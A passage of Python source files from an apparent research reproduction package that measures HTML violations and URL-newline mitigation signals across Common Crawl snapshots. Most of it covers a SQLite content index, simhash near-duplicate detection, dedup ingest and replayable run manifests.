            f"{last.nl_in_url_domains} "
            f"({_pct(last.fraction(last.nl_in_url_domains)).strip()})",
            f"{paper['nl_in_url_2015'][0]} (11.2%) -> "
            f"{paper['nl_in_url_2022'][0]} (11.0%)",
        ],
        [
            "newline AND '<' in URL",
            f"{first.nl_lt_in_url_domains} "
            f"({_pct(first.fraction(first.nl_lt_in_url_domains)).strip()})",
            f"{last.nl_lt_in_url_domains} "
            f"({_pct(last.fraction(last.nl_lt_in_url_domains)).strip()})",
            f"{paper['nl_lt_in_url_2015'][0]} (1.37%) -> "
            f"{paper['nl_lt_in_url_2022'][0]} (0.76%)",
        ],
    ]
    table = render_table(
        ["Signal (domains)", str(first.year), str(last.year), "Paper"], rows
    )
    footer = (
        "West 2017 telemetry (page views): newline "
        f"{paper['west2017_pageviews_nl'] * 100:.4f}%, newline+'<' "
        f"{paper['west2017_pageviews_nl_lt'] * 100:.4f}%\n"
    )
    return "Section 4.5: Existing mitigations\n" + table + footer
