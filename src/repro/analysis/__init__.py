"""`repro.analysis` — every table and figure of the paper's section 4."""
from .autofix_estimate import AutofixEstimate, estimate_autofix
from .dataset import DatasetRow, DatasetSummary, dataset_table
from .dynamic import DynamicPrestudy, render_dynamic, run_dynamic_prestudy
from .element_usage import (
    ElementUsageTrend,
    UsagePoint,
    element_usage_trend,
    render_element_usage,
)
from .generalization import (
    GeneralizationComparison,
    PopulationStats,
    render_generalization,
    run_generalization_study,
)
from .longitudinal import (
    APPENDIX_FIGURES,
    TrendPoint,
    TrendSeries,
    all_violation_trends,
    appendix_figure,
    figure9_overall_trend,
    figure10_group_trends,
    violation_trend,
)
from .mitigations import (
    MitigationComparison,
    MitigationYear,
    compare_mitigations,
    measure_year,
)
from .report import (
    render_autofix,
    render_figure8,
    render_group_trends,
    render_mitigations,
    render_table,
    render_table2,
    render_trend,
)
from .stats import DistributionEntry, GeneralStats, figure8_distribution

__all__ = [
    "APPENDIX_FIGURES",
    "AutofixEstimate",
    "DatasetRow",
    "DatasetSummary",
    "DistributionEntry",
    "DynamicPrestudy",
    "ElementUsageTrend",
    "GeneralizationComparison",
    "PopulationStats",
    "GeneralStats",
    "MitigationComparison",
    "MitigationYear",
    "TrendPoint",
    "TrendSeries",
    "UsagePoint",
    "all_violation_trends",
    "appendix_figure",
    "compare_mitigations",
    "dataset_table",
    "element_usage_trend",
    "estimate_autofix",
    "figure8_distribution",
    "figure9_overall_trend",
    "figure10_group_trends",
    "measure_year",
    "render_autofix",
    "render_dynamic",
    "render_element_usage",
    "render_figure8",
    "render_generalization",
    "render_group_trends",
    "render_mitigations",
    "render_table",
    "render_table2",
    "render_trend",
    "run_dynamic_prestudy",
    "run_generalization_study",
    "violation_trend",
]
