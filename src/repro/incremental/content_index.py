"""Persistent cross-snapshot content index for carry-forward dedup.

One SQLite database, separate from the results store, holding one row
per *distinct* page body ever checked: its exact-duplicate keys (the CDX
payload digest and the sha256 content key over payload + content-type),
an optional simhash sketch for near-duplicate matching, and the full
check outcome (findings in checker emission order, mitigation counters,
page features, encoding verdict).  The checker stage consults it before
parsing: a hit skips parse+check entirely and carries the recorded
outcome forward into the new snapshot under a provenance marker.

Determinism contract (the parallel runner leans on this):

* lookups only ever see rows *committed* as of the end of the previous
  snapshot — new outcomes are staged in store order and flushed by
  :meth:`ContentIndex.commit_snapshot` at snapshot boundaries, so every
  worker count (and the sequential runner) resolves every page against
  the identical view;
* duplicate content keys are first-wins in store order, so the row that
  lands in the index is the same regardless of completion order;
* near-duplicate matches scan committed rows in insertion (id) order and
  take the first within the Hamming threshold — no tie depends on
  anything but the committed sequence.

Failure modes are explicit: a database stamped by newer code raises
:class:`~repro.pipeline.migrations.SchemaVersionError`; an index built
under a different rule registry or check configuration raises
:class:`ContentIndexStaleError` (or is wiped and rebuilt under
``on_stale="reset"``); a file SQLite cannot read raises
:class:`ContentIndexError` (or is likewise rebuilt under
``on_stale="reset"``).  Carrying findings forward from an index whose
rules differ from the running registry would silently poison the study —
hence hard refusal by default.
"""

from __future__ import annotations

import json
import os
import sqlite3
from dataclasses import dataclass
from pathlib import Path

from ..pipeline.migrations import SchemaVersionError, ensure_schema
from .simhash import hamming64

__all__ = [
    "ContentIndex",
    "ContentIndexError",
    "ContentIndexStaleError",
    "IndexEntry",
]

SCHEMA_VERSION = 1

_SCHEMA = """
CREATE TABLE IF NOT EXISTS meta (
    key TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS entries (
    id INTEGER PRIMARY KEY,
    content_key TEXT NOT NULL UNIQUE,
    cdx_digest TEXT NOT NULL,
    simhash INTEGER,
    snapshot TEXT NOT NULL,
    url TEXT NOT NULL,
    utf8 INTEGER NOT NULL,
    checked INTEGER NOT NULL,
    declared_encoding TEXT NOT NULL,
    findings TEXT NOT NULL,
    mitigation TEXT NOT NULL,
    features TEXT NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_entries_digest ON entries(cdx_digest);
"""

_ENTRY_COLUMNS = (
    "snapshot, url, cdx_digest, content_key, simhash, utf8, checked,"
    " declared_encoding, findings, mitigation, features"
)


class ContentIndexError(RuntimeError):
    """The content index file is unreadable or corrupt."""


class ContentIndexStaleError(ContentIndexError):
    """The content index was built under incompatible rules/options."""


@dataclass(frozen=True, slots=True)
class IndexEntry:
    """One distinct page body and its recorded check outcome."""

    snapshot: str
    url: str
    cdx_digest: str
    content_key: str
    simhash: int | None
    utf8: bool
    checked: bool
    declared_encoding: str
    #: checker emission order preserved: (violation id, count) pairs
    findings: tuple[tuple[str, int], ...]
    mitigation: tuple[int, int, int, int] | None
    features: tuple[int, int] | None

    @property
    def provenance(self) -> str:
        """The ``pages.carried_from`` value for an exact carry."""
        return f"{self.snapshot} {self.url}"


def _row_to_entry(row: tuple) -> IndexEntry:
    (snapshot, url, cdx_digest, content_key, simhash, utf8, checked,
     declared_encoding, findings_json, mitigation_json, features_json) = row
    mitigation = json.loads(mitigation_json)
    features = json.loads(features_json)
    return IndexEntry(
        snapshot=snapshot,
        url=url,
        cdx_digest=cdx_digest,
        content_key=content_key,
        simhash=simhash,
        utf8=bool(utf8),
        checked=bool(checked),
        declared_encoding=declared_encoding,
        findings=tuple(
            (violation, count) for violation, count in json.loads(findings_json)
        ),
        mitigation=None if mitigation is None else tuple(mitigation),
        features=None if features is None else tuple(features),
    )


class ContentIndex:
    """SQLite-backed content index; see the module docstring for semantics.

    ``meta`` is the compatibility stamp (registry hash, check options): a
    fresh index records it, an existing index must match it.  Workers
    open the parent-committed file with ``readonly=True`` and skip the
    stamp check — the parent validated before the pool started.
    """

    def __init__(
        self,
        path: str | Path = ":memory:",
        *,
        meta: dict[str, str] | None = None,
        readonly: bool = False,
        on_stale: str = "error",
    ) -> None:
        if on_stale not in ("error", "reset"):
            raise ValueError(f"on_stale must be 'error' or 'reset': {on_stale!r}")
        self.path = str(path)
        self.readonly = readonly
        self._staged: list[IndexEntry] = []
        self._staged_keys: set[str] = set()
        try:
            self._open(meta, on_stale)
        except sqlite3.DatabaseError as exc:
            if on_stale == "reset" and self.path != ":memory:":
                self.conn.close()
                os.unlink(self.path)
                self._open(meta, on_stale="error")
            else:
                raise ContentIndexError(
                    f"content index {self.path}: unreadable ({exc})"
                ) from exc

    def _open(self, meta: dict[str, str] | None, on_stale: str) -> None:
        if self.readonly:
            self.conn = sqlite3.connect(f"file:{self.path}?mode=ro", uri=True)
            version_row = self.conn.execute("PRAGMA user_version").fetchone()
            if version_row[0] > SCHEMA_VERSION:
                raise SchemaVersionError(
                    f"content index {self.path}: schema generation"
                    f" {version_row[0]} is newer than supported"
                    f" generation {SCHEMA_VERSION}"
                )
        else:
            self.conn = sqlite3.connect(self.path)
            ensure_schema(
                self.conn,
                latest=SCHEMA_VERSION,
                create=_SCHEMA,
                migrations={},
                label="content index",
            )
            if meta is not None:
                self._check_meta(meta, on_stale)
        # committed near-dup sketches, in insertion order
        self._sketches: list[tuple[int, int]] = [
            (row_id, sketch)
            for row_id, sketch in self.conn.execute(
                "SELECT id, simhash FROM entries WHERE simhash IS NOT NULL"
                " ORDER BY id"
            )
        ]

    def _check_meta(self, meta: dict[str, str], on_stale: str) -> None:
        recorded = dict(self.conn.execute("SELECT key, value FROM meta"))
        if not recorded:
            self.conn.executemany(
                "INSERT INTO meta(key, value) VALUES (?, ?)",
                sorted(meta.items()),
            )
            self.conn.commit()
            return
        if recorded == meta:
            return
        if on_stale == "reset":
            with self.conn:
                self.conn.execute("DELETE FROM entries")
                self.conn.execute("DELETE FROM meta")
                self.conn.executemany(
                    "INSERT INTO meta(key, value) VALUES (?, ?)",
                    sorted(meta.items()),
                )
            return
        diffs = sorted(
            key
            for key in set(recorded) | set(meta)
            if recorded.get(key) != meta.get(key)
        )
        raise ContentIndexStaleError(
            f"content index {self.path}: built under different"
            f" configuration (mismatched: {', '.join(diffs)});"
            " carrying findings across rule or option changes would"
            " poison the study — delete the index or open with"
            " on_stale='reset'"
        )

    # ------------------------------------------------------------- lookups

    def lookup_digest(self, cdx_digest: str) -> IndexEntry | None:
        """First committed entry with this CDX payload digest, if any."""
        row = self.conn.execute(
            f"SELECT {_ENTRY_COLUMNS} FROM entries WHERE cdx_digest = ?"
            " ORDER BY id LIMIT 1",
            (cdx_digest,),
        ).fetchone()
        return None if row is None else _row_to_entry(row)

    def lookup_key(self, content_key: str) -> IndexEntry | None:
        """Committed entry with this exact content key, if any."""
        row = self.conn.execute(
            f"SELECT {_ENTRY_COLUMNS} FROM entries WHERE content_key = ?",
            (content_key,),
        ).fetchone()
        return None if row is None else _row_to_entry(row)

    def lookup_near(self, sketch: int, max_hamming: int) -> IndexEntry | None:
        """First committed entry within *max_hamming* bits of *sketch*."""
        for row_id, candidate in self._sketches:
            if hamming64(candidate, sketch) <= max_hamming:
                row = self.conn.execute(
                    f"SELECT {_ENTRY_COLUMNS} FROM entries WHERE id = ?",
                    (row_id,),
                ).fetchone()
                return _row_to_entry(row)
        return None

    # ------------------------------------------------------------- staging

    def stage(self, entry: IndexEntry) -> bool:
        """Queue a freshly checked outcome for the next snapshot commit.

        First-wins: returns False (and stages nothing) when the content
        key is already staged or committed.
        """
        if entry.content_key in self._staged_keys:
            return False
        if self.lookup_key(entry.content_key) is not None:
            return False
        self._staged.append(entry)
        self._staged_keys.add(entry.content_key)
        return True

    def commit_snapshot(self) -> int:
        """Flush staged entries; they become visible to lookups now."""
        if not self._staged:
            return 0
        inserted = 0
        for entry in self._staged:
            cursor = self.conn.execute(
                "INSERT OR IGNORE INTO entries(content_key, cdx_digest,"
                " simhash, snapshot, url, utf8, checked, declared_encoding,"
                " findings, mitigation, features)"
                " VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                (
                    entry.content_key,
                    entry.cdx_digest,
                    entry.simhash,
                    entry.snapshot,
                    entry.url,
                    int(entry.utf8),
                    int(entry.checked),
                    entry.declared_encoding,
                    json.dumps([list(pair) for pair in entry.findings]),
                    json.dumps(
                        None if entry.mitigation is None
                        else list(entry.mitigation)
                    ),
                    json.dumps(
                        None if entry.features is None else list(entry.features)
                    ),
                ),
            )
            if cursor.rowcount and entry.simhash is not None:
                self._sketches.append((cursor.lastrowid, entry.simhash))
            inserted += cursor.rowcount
        self.conn.commit()
        self._staged.clear()
        self._staged_keys.clear()
        return inserted

    # ----------------------------------------------------------- lifecycle

    def entry_count(self) -> int:
        """Committed entries (staged ones are not counted)."""
        return self.conn.execute("SELECT COUNT(*) FROM entries").fetchone()[0]

    def close(self) -> None:
        self.conn.close()

    def __enter__(self) -> "ContentIndex":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()
