"""Incremental multi-snapshot study engine (DESIGN.md §3.13).

Two halves:

* **dedup ingest** — a persistent cross-snapshot content index
  (:mod:`~repro.incremental.content_index`) consulted in the checker
  stage (:mod:`~repro.incremental.dedup`): pages whose bodies were
  already checked in a prior snapshot skip parse+check and carry their
  findings forward under a provenance marker, with an optional seed-free
  simhash near-duplicate tier (:mod:`~repro.incremental.simhash`);
* **run manifests** — every study run records a ``repro-manifest/1``
  document (:mod:`~repro.incremental.manifest`) and
  :func:`~repro.incremental.replay.replay_manifest` re-executes it,
  asserting the aggregate tables regenerate byte-identically.
"""

from .content_index import (
    ContentIndex,
    ContentIndexError,
    ContentIndexStaleError,
    IndexEntry,
)
from .dedup import DedupConfig, DedupCounters, dedup_meta
from .manifest import (
    MANIFEST_SCHEMA,
    ManifestFormatError,
    load_manifest,
    registry_hash,
    write_manifest,
)
from .replay import ReplayReport, execute_study_run, replay_manifest
from .simhash import hamming64, simhash64

__all__ = [
    "MANIFEST_SCHEMA",
    "ContentIndex",
    "ContentIndexError",
    "ContentIndexStaleError",
    "DedupConfig",
    "DedupCounters",
    "IndexEntry",
    "ManifestFormatError",
    "ReplayReport",
    "dedup_meta",
    "execute_study_run",
    "hamming64",
    "load_manifest",
    "registry_hash",
    "replay_manifest",
    "simhash64",
    "write_manifest",
]
