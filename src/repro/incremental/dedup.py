"""The dedup ingest path: check a domain against the content index.

This is the checker-stage decision described in DESIGN.md §3.13.  For
each CDX capture of a domain, in order:

1. **CDX-digest tier** (``trust_cdx_digest``, on by default): the CDX
   record already carries the payload's sha1 digest, so a committed
   index hit here skips the *fetch* as well as parse+check.  The
   documented approximation: the outcome is keyed on body bytes alone,
   so a capture serving identical bytes under a different charset header
   carries the source's ``declared_encoding`` forward.
2. **Content-key tier**: after fetching, the sha256 content key over
   (payload, content-type) — exact by construction.  This is the only
   exact tier when ``trust_cdx_digest=False``.
3. **Near-dup tier** (opt-in via ``near_hamming``): a 64-bit simhash
   sketch within the Hamming threshold of a committed entry carries that
   entry's outcome forward under a ``~``-prefixed provenance marker.
   Near carries are approximations *by design* and therefore excluded
   from the bit-parity oracles.

A miss pays the full parse+check and ships an :class:`IndexEntry`
alongside the page result; the parent stages it in store order and
commits it at the snapshot boundary — see
:mod:`repro.incremental.content_index` for why that keeps every worker
count bit-identical.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from ..commoncrawl import CommonCrawlClient
from ..core import Checker
from ..pipeline.checker_stage import check_page, page_content_key
from ..pipeline.crawler import CrawlStats, fetch_one
from ..pipeline.metadata import collect_metadata
from ..pipeline.parallel import DomainResult, PageResult, page_result_from_checked
from .content_index import ContentIndex, IndexEntry
from .simhash import simhash64

__all__ = [
    "DedupConfig",
    "DedupCounters",
    "dedup_meta",
    "process_domain_incremental",
]


@dataclass(frozen=True, slots=True)
class DedupConfig:
    """Knobs of the incremental ingest path (picklable; shipped to workers)."""

    #: trust the CDX record's payload digest as an exact-dup key and skip
    #: the fetch on a hit (tier 1); False forces a fetch and the strict
    #: sha256 content key for every capture
    trust_cdx_digest: bool = True
    #: enable the simhash near-dup tier with this Hamming threshold
    #: (bits); None disables near-dup matching entirely
    near_hamming: int | None = None

    def as_dict(self) -> dict:
        return {
            "trust_cdx_digest": self.trust_cdx_digest,
            "near_hamming": self.near_hamming,
        }


@dataclass(slots=True)
class DedupCounters:
    """Hit/miss/carry accounting, surfaced in bench + progress + manifest."""

    cdx_hits: int = 0
    content_hits: int = 0
    near_hits: int = 0
    misses: int = 0
    #: distinct new bodies committed into the content index
    staged: int = 0

    @property
    def carried(self) -> int:
        """Pages whose findings were carried forward (checks skipped)."""
        return self.cdx_hits + self.content_hits + self.near_hits

    @property
    def pages(self) -> int:
        return self.carried + self.misses

    def count(self, page: PageResult) -> None:
        if page.carry_tier == "cdx":
            self.cdx_hits += 1
        elif page.carry_tier == "content":
            self.content_hits += 1
        elif page.carry_tier == "near":
            self.near_hits += 1
        else:
            self.misses += 1

    def as_dict(self) -> dict:
        return {
            "cdx_hits": self.cdx_hits,
            "content_hits": self.content_hits,
            "near_hits": self.near_hits,
            "carried": self.carried,
            "misses": self.misses,
            "pages": self.pages,
            "staged": self.staged,
        }


def dedup_meta(*, measure_mitigations: bool) -> dict[str, str]:
    """The content index compatibility stamp for the running configuration.

    Keyed on everything that changes a recorded outcome: the rule-pack
    registry hash and the mitigation-measurement switch.  An index built
    under any other stamp is stale (see :class:`ContentIndexStaleError`).
    """
    from .manifest import registry_hash

    return {
        "registry_hash": registry_hash(),
        "measure_mitigations": str(int(measure_mitigations)),
        "schema": "repro-content-index/1",
    }


def _carried(url: str, hit: IndexEntry, tier: str) -> PageResult:
    prefix = "~" if tier == "near" else ""
    return PageResult(
        url=url,
        utf8=hit.utf8,
        checked=hit.checked,
        findings=dict(hit.findings),
        mitigation=hit.mitigation,
        features=hit.features,
        declared_encoding=hit.declared_encoding,
        carried_from=prefix + hit.provenance,
        carry_tier=tier,
    )


def process_domain_incremental(
    client: CommonCrawlClient,
    checker: Checker,
    index: ContentIndex,
    config: DedupConfig,
    snapshot_id: str,
    domain: str,
    max_pages: int,
    *,
    fetch_retries: int = 2,
    measure_mitigations: bool = True,
) -> DomainResult:
    """Stages 1–3 for one domain with the content index consulted per page.

    Lookups hit only entries committed before this snapshot started (the
    index's staging discipline); fresh outcomes ride back on
    ``PageResult.index_entry`` for the parent to stage in store order.
    Per-stage seconds land in ``DomainResult.timings``.
    """
    timings = {"index": 0.0, "fetch": 0.0, "check": 0.0}
    started = time.perf_counter()
    metadata = collect_metadata(client, snapshot_id, domain, max_pages=max_pages)
    timings["index"] += time.perf_counter() - started
    result = DomainResult(
        domain=domain, snapshot_id=snapshot_id, found=metadata.found,
        timings=timings,
    )
    if not metadata.found:
        return result
    crawl_stats = CrawlStats()
    for entry in metadata.entries:
        if config.trust_cdx_digest:
            hit = index.lookup_digest(entry.digest)
            if hit is not None:
                result.pages.append(_carried(entry.url, hit, "cdx"))
                continue
        started = time.perf_counter()
        page = fetch_one(client, entry, stats=crawl_stats, retries=fetch_retries)
        timings["fetch"] += time.perf_counter() - started
        if page is None:
            continue
        key = page_content_key(page.payload, page.content_type)
        hit = index.lookup_key(key)
        if hit is not None:
            result.pages.append(_carried(page.url, hit, "content"))
            continue
        sketch: int | None = None
        if config.near_hamming is not None:
            sketch = simhash64(page.payload)
            hit = index.lookup_near(sketch, config.near_hamming)
            if hit is not None:
                result.pages.append(_carried(page.url, hit, "near"))
                continue
        started = time.perf_counter()
        checked = check_page(
            page, checker, measure_mitigation_signals=measure_mitigations
        )
        timings["check"] += time.perf_counter() - started
        page_result = page_result_from_checked(checked)
        page_result.index_entry = IndexEntry(
            snapshot=snapshot_id,
            url=page.url,
            cdx_digest=entry.digest,
            content_key=key,
            simhash=sketch,
            utf8=page_result.utf8,
            checked=page_result.checked,
            declared_encoding=page_result.declared_encoding,
            findings=tuple(page_result.findings.items()),
            mitigation=page_result.mitigation,
            features=page_result.features,
        )
        result.pages.append(page_result)
    result.fetch_failures = crawl_stats.failed
    return result
