"""Seed-free deterministic 64-bit simhash for near-duplicate pages.

Charikar's simhash over the page's byte tokens: each distinct token
contributes a 64-bit fingerprint weighted by its occurrence count; the
sketch keeps the sign of each bit-position sum.  Two pages whose sketches
are within a small Hamming distance share most of their token mass —
boilerplate-heavy sites that only rotate a timestamp or a story list
land within a handful of bits year over year.

Determinism is load-bearing (the staticcheck determinism pass guards
this module): the fingerprint is built from two CRC-32 halves with fixed
domain-separation prefixes, so the sketch is a pure function of the
payload bytes — no process seed, no hash randomization, identical across
runs, platforms and interpreter restarts.  CRC-32 is not a cryptographic
hash, which is fine here: simhash needs spread, not adversarial
collision resistance, and the exact-duplicate tier already uses sha256.
"""

from __future__ import annotations

import re
import zlib

__all__ = ["simhash64", "hamming64"]

#: token splitter: runs of bytes that are not whitespace or markup
#: punctuation — splits tags, attributes and words apart without
#: decoding, so the sketch works straight off the WARC payload
_TOKEN = re.compile(rb"[^\s<>=\"'&;]+")

_MASK64 = (1 << 64) - 1


def _fingerprint(token: bytes) -> int:
    """Stable 64-bit fingerprint of one token (two prefixed CRC-32 halves)."""
    high = zlib.crc32(b"\x01" + token)
    low = zlib.crc32(b"\x02" + token)
    return ((high << 32) | low) & _MASK64


def simhash64(payload: bytes) -> int:
    """64-bit simhash sketch of *payload*; 0 for an empty/token-free body."""
    weights: dict[bytes, int] = {}
    for match in _TOKEN.finditer(payload):
        token = match.group()
        weights[token] = weights.get(token, 0) + 1
    if not weights:
        return 0
    sums = [0] * 64
    for token, count in weights.items():
        fingerprint = _fingerprint(token)
        for bit in range(64):
            if (fingerprint >> bit) & 1:
                sums[bit] += count
            else:
                sums[bit] -= count
    sketch = 0
    for bit in range(64):
        if sums[bit] > 0:
            sketch |= 1 << bit
    return sketch


def hamming64(a: int, b: int) -> int:
    """Hamming distance between two 64-bit sketches."""
    return ((a ^ b) & _MASK64).bit_count()
