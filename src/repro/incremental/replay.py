"""Shared study-run engine + manifest replay.

:func:`execute_study_run` is the one place a study run actually happens:
it wires the archive, the results store, the (optional) content index
and the right runner together, and emits the ``repro-manifest/1``
record.  ``repro-study run`` and ``repro-study replay`` both go through
it, which is what makes replay an honest re-execution rather than a
parallel implementation that could drift.

Replay contract: re-execute with the manifest's recorded configuration
against digest-verified inputs, then require the canonical aggregate
dump (provenance-excluded) to be byte-identical to the recorded digest.
When the original run started from a fresh content index
(``run.index_fresh``), the provenance column is itself deterministic and
the *full* dump digest must match too.  A pre-warmed index makes
provenance reference snapshots outside the run, so only the aggregate
digest is asserted there — the analyses read nothing else.
"""

from __future__ import annotations

import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

from ..commoncrawl import CommonCrawlClient
from ..pipeline import ParallelStudyRunner, Storage, StudyRunner
from .content_index import ContentIndex
from .dedup import DedupConfig, dedup_meta
from .manifest import (
    MANIFEST_SCHEMA,
    archive_digests,
    code_version,
    load_manifest,
    registry_hash,
    write_manifest,
)

__all__ = ["ReplayReport", "execute_study_run", "replay_manifest"]


def execute_study_run(
    *,
    archive_root: str | Path,
    db_path: str | Path,
    domains: list[tuple[str, float]],
    max_pages: int,
    workers: int = 1,
    seed: int = 0,
    snapshot_ids: list[str] | None = None,
    measure_mitigations: bool = True,
    fetch_retries: int = 2,
    dedup: DedupConfig | None = None,
    index_path: str | Path | None = None,
    manifest_path: str | Path | None = None,
    on_stale: str = "error",
    progress=None,
    progress_dedup=None,
):
    """Run one study; return ``(manifest, stats)``.

    ``seed`` is the single run seed: the one the corpus/archive was
    generated under, recorded so replay (and any downstream fuzz- or
    loadgen-style harness) can regenerate the exact inputs.  ``dedup``
    switches on the incremental path; ``index_path`` persists the
    content index across runs (required when ``workers > 1`` so worker
    processes can open it read-only; an in-memory index is used when
    omitted on sequential runs).
    """
    archive_root = str(archive_root)
    catalog_client = CommonCrawlClient(archive_root)
    collections = catalog_client.collections()
    catalog_client.close()
    if snapshot_ids is not None:
        wanted = set(snapshot_ids)
        collections = [c for c in collections if c.id in wanted]
    run_snapshot_ids = [c.id for c in collections]

    index: ContentIndex | None = None
    index_fresh = True
    if dedup is not None:
        meta = dedup_meta(measure_mitigations=measure_mitigations)
        if index_path is None:
            if workers > 1:
                raise ValueError(
                    "parallel incremental run needs index_path (workers"
                    " open the content index read-only)"
                )
            index = ContentIndex(":memory:", meta=meta, on_stale=on_stale)
        else:
            index = ContentIndex(str(index_path), meta=meta, on_stale=on_stale)
        index_fresh = index.entry_count() == 0

    storage = Storage(db_path)
    started = time.monotonic()
    try:
        if workers > 1:
            runner = ParallelStudyRunner(
                archive_root,
                storage,
                max_pages=max_pages,
                workers=workers,
                fetch_retries=fetch_retries,
                measure_mitigations=measure_mitigations,
                progress=progress,
                dedup=dedup,
                content_index=index,
                progress_dedup=progress_dedup,
            )
            stats = runner.run(domains, snapshot_ids=run_snapshot_ids)
        else:
            client = CommonCrawlClient(archive_root)
            try:
                runner = StudyRunner(
                    client,
                    storage,
                    max_pages=max_pages,
                    fetch_retries=fetch_retries,
                    measure_mitigations=measure_mitigations,
                    progress=progress,
                    dedup=dedup,
                    content_index=index,
                    progress_dedup=progress_dedup,
                )
                stats = runner.run(domains, snapshot_ids=run_snapshot_ids)
            finally:
                client.close()
        total_seconds = time.monotonic() - started
        timings = dict(runner.stage_seconds) or {}
        timings["total"] = total_seconds
        counters = getattr(stats, "dedup", None)
        manifest = {
            "schema": MANIFEST_SCHEMA,
            "code_version": code_version(),
            "registry_hash": registry_hash(),
            "run": {
                "seed": seed,
                "domains": [[name, rank] for name, rank in domains],
                "max_pages": max_pages,
                "workers": workers,
                "snapshot_ids": run_snapshot_ids,
                "measure_mitigations": measure_mitigations,
                "fetch_retries": fetch_retries,
                "incremental": dedup is not None,
                "dedup": None if dedup is None else dedup.as_dict(),
                "index_fresh": index_fresh,
            },
            "archive": archive_digests(archive_root, run_snapshot_ids),
            "results": {
                "aggregate_sha256": storage.aggregate_sha256(
                    include_provenance=False
                ),
                "full_sha256": storage.aggregate_sha256(
                    include_provenance=True
                ),
                "pages_checked": stats.pages_checked,
                "snapshots": stats.snapshots,
                "domains_processed": stats.domains_processed,
            },
            "timings": timings,
            "dedup_counters": None if counters is None else counters.as_dict(),
        }
        if manifest_path is not None:
            write_manifest(manifest, manifest_path)
    finally:
        storage.commit()
        storage.close()
        if index is not None:
            index.close()
    return manifest, stats


@dataclass(slots=True)
class ReplayReport:
    """Outcome of one manifest replay."""

    ok: bool
    #: human-readable mismatch descriptions, empty when ok
    mismatches: list[str] = field(default_factory=list)
    #: digests recomputed by the replay run
    replayed: dict = field(default_factory=dict)
    #: which digest comparisons ran ("aggregate" always, "full" when the
    #: original run started from a fresh content index)
    compared: list[str] = field(default_factory=list)


def _verify_archive(manifest: dict, mismatches: list[str]) -> None:
    recorded = manifest["archive"]
    root = Path(recorded["root"])
    if not root.is_dir():
        mismatches.append(f"archive root missing: {root}")
        return
    current = archive_digests(root, manifest["run"]["snapshot_ids"])
    if current["collinfo_sha256"] != recorded["collinfo_sha256"]:
        mismatches.append("collinfo.json digest changed since the run")
    for snapshot_id, digests in recorded["snapshots"].items():
        now = current["snapshots"].get(snapshot_id)
        if now is None:
            mismatches.append(f"snapshot {snapshot_id} missing from archive")
            continue
        if now["cdx_sha256"] != digests["cdx_sha256"]:
            mismatches.append(f"{snapshot_id}: CDX index digest changed")
        if now["warc_sha256"] != digests["warc_sha256"]:
            mismatches.append(f"{snapshot_id}: WARC file digests changed")


def replay_manifest(
    manifest: dict | str | Path,
    *,
    workdir: str | Path | None = None,
    workers: int | None = None,
) -> ReplayReport:
    """Re-execute a recorded run and compare result digests.

    ``workers`` may override the recorded worker count — bit-identity
    across worker counts is part of what replay proves.  Scratch files
    land in ``workdir`` (a temp directory by default).
    """
    if not isinstance(manifest, dict):
        manifest = load_manifest(manifest)
    mismatches: list[str] = []
    if manifest["registry_hash"] != registry_hash():
        mismatches.append(
            "rule-pack registry hash changed since the run (results are"
            " not expected to reproduce under different rules)"
        )
    _verify_archive(manifest, mismatches)
    if mismatches:
        return ReplayReport(ok=False, mismatches=mismatches)

    run = manifest["run"]
    replay_workers = run["workers"] if workers is None else workers
    dedup = None
    if run["incremental"]:
        dedup = DedupConfig(**run["dedup"])

    def _replay_in(scratch: Path) -> ReplayReport:
        replayed, _stats = execute_study_run(
            archive_root=manifest["archive"]["root"],
            db_path=scratch / "replay.sqlite",
            domains=[(name, rank) for name, rank in run["domains"]],
            max_pages=run["max_pages"],
            workers=replay_workers,
            seed=run["seed"],
            snapshot_ids=run["snapshot_ids"],
            measure_mitigations=run["measure_mitigations"],
            fetch_retries=run["fetch_retries"],
            dedup=dedup,
            index_path=(
                scratch / "replay-index.sqlite" if dedup is not None else None
            ),
        )
        compared = ["aggregate"]
        for key in ("aggregate_sha256",):
            if replayed["results"][key] != manifest["results"][key]:
                mismatches.append(
                    f"results.{key}: replay {replayed['results'][key]}"
                    f" != recorded {manifest['results'][key]}"
                )
        if run["index_fresh"]:
            compared.append("full")
            if (
                replayed["results"]["full_sha256"]
                != manifest["results"]["full_sha256"]
            ):
                mismatches.append(
                    "results.full_sha256: replay"
                    f" {replayed['results']['full_sha256']} != recorded"
                    f" {manifest['results']['full_sha256']}"
                )
        return ReplayReport(
            ok=not mismatches,
            mismatches=mismatches,
            replayed=replayed["results"],
            compared=compared,
        )

    if workdir is not None:
        return _replay_in(Path(workdir))
    with tempfile.TemporaryDirectory(prefix="repro-replay-") as scratch:
        return _replay_in(Path(scratch))
