"""Replayable run manifests (``repro-manifest/1``).

Every study run writes one — the Web-Execution-Bundles idea (Hantke et
al., PAPERS.md) applied to this pipeline: a JSON record of *everything
that determined the run's output*, so any figure can be regenerated
byte-identically from the manifest alone.

What that means concretely:

* **inputs** — the archive root, each snapshot's CDX and WARC file
  digests, and the collection catalog digest (``collinfo.json``): replay
  refuses to run against silently different archives;
* **code** — the package version and the rule-pack registry hash: a rule
  change legitimately changes results, and the manifest pins which rules
  produced these;
* **run configuration** — domains, page caps, worker count, the single
  run seed, and the full dedup configuration;
* **outcome digests** — sha256 over the canonical aggregate-table dump
  (provenance excluded and included): the replay target.

Per-stage timings and dedup counters ride along for EXPERIMENTS.md
attribution; they are informational and never compared by replay.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from ..core import REGISTRY

__all__ = [
    "MANIFEST_SCHEMA",
    "ManifestFormatError",
    "archive_digests",
    "code_version",
    "file_sha256",
    "load_manifest",
    "registry_hash",
    "write_manifest",
]

MANIFEST_SCHEMA = "repro-manifest/1"

#: top-level keys every repro-manifest/1 document must carry
_REQUIRED_KEYS = (
    "schema",
    "code_version",
    "registry_hash",
    "run",
    "archive",
    "results",
)


class ManifestFormatError(ValueError):
    """The file is not a well-formed repro-manifest/1 document."""


def code_version() -> str:
    """The running package version (lazy: the package imports this module)."""
    from .. import __version__

    return __version__


def registry_hash() -> str:
    """sha256 over the full rule-pack registry, stable across runs.

    Serializes every :class:`~repro.core.violations.ViolationType` field
    in sorted id order — any rule addition, removal, redefinition or
